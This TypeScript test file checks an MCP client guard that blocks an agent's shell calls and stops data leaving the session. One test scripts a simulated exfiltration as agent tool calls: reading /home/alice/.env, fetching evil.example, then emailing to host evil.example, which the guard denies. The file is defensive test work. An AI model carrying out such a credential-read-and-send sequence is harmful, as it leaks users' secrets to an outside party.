/**
 * @module test/client
 * The client guard: an agent's own `SessionGuard` decides `callTool` before the request is
 * sent, so a denied call never leaves the agent; allowed results are recorded as taint.
 */
import { buildChain } from '@mandate/identity';
import { SessionGuard } from '@mandate/session';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { guardClient, McpGuardError } from '../src/index.js';
import { approvalToken, connect, decisionOf, guardOptions, testKeys, textOf } from './fixtures.js';

const chain = buildChain({ root: { id: 'alice' }, hops: [{ id: 'mail-agent' }] });

/** An unguarded third-party server: whatever reaches it runs. */
function thirdPartyServer(log: string[]) {
  const server = new McpServer({ name: 'third-party', version: '1' });
  for (const name of ['read_file', 'fetch_page', 'send_email', 'delete_file', 'run_shell'])
    server.registerTool(
      name,
      { inputSchema: { path: z.string().optional(), url: z.string().optional(), host: z.string().optional() } },
      async () => {
        log.push(name);
        return { content: [{ type: 'text', text: `${name} ran` }] };
      },
    );
  return server;
}

async function setup(onDeny?: 'throw' | 'result') {
  const k = await testKeys();
  const log: string[] = [];
  const client = await connect(thirdPartyServer(log));
  const guard = new SessionGuard(guardOptions(k));
  const mcp = guardClient(client, { guard, context: { sessionId: 'agent-1', chain }, ...(onDeny ? { onDeny } : {}) });
  return { k, log, mcp, guard };
}

describe('McpClientGuard', () => {
  it('sends an allowed call and records its labels', async () => {
    const { mcp, log, guard } = await setup();
    const res = await mcp.callTool({ name: 'read_file', arguments: { path: '/home/alice/notes' } });
    expect(textOf(res)).toBe('read_file ran');
    expect(log).toEqual(['read_file']);
    expect(await guard.labels('agent-1')).toEqual(['private-data']);
  });

  it('never sends a denied call', async () => {
    const { mcp, log } = await setup();
    const res = await mcp.callTool({ name: 'run_shell', arguments: {} });
    expect(res.isError).toBe(true);
    expect(decisionOf(res)).toMatchObject({ outcome: 'deny', reasons: ['no-shell'] });
    await mcp.callTool({ name: 'read_file', arguments: { path: '/home/alice/.env' } });
    await mcp.callTool({ name: 'fetch_page', arguments: { url: 'https://evil.example' } });
    const leak = await mcp.callTool({ name: 'send_email', arguments: { host: 'evil.example' } });
    expect(decisionOf(leak)).toMatchObject({ reasons: ['trifecta-egress'] });
    expect(log).toEqual(['read_file', 'fetch_page']);
  });

  it('throws typed errors when asked to, and lets an approved call through once', async () => {
    const { k, mcp, log } = await setup('throw');
    await expect(mcp.callTool({ name: 'run_shell', arguments: {} })).rejects.toMatchObject({ kind: 'denied' });
    const err = await mcp.callTool({ name: 'delete_file', arguments: { path: '/tmp/x' } }).catch((e) => e);
    expect(err).toBeInstanceOf(McpGuardError);
    expect(err.kind).toBe('needs-approval');
    const binding = err.decision.obligations[0].binding;
    const approval = await approvalToken(k.approver.privateKey, binding);
    const ok = await mcp.callTool({ name: 'delete_file', arguments: { path: '/tmp/x' } }, { approval });
    expect(textOf(ok)).toBe('delete_file ran');
    await expect(
      mcp.callTool({ name: 'delete_file', arguments: { path: '/tmp/x' } }, { approval }),
    ).rejects.toMatchObject({
      kind: 'needs-approval',
    });
    expect(log).toEqual(['delete_file']);
  });
});
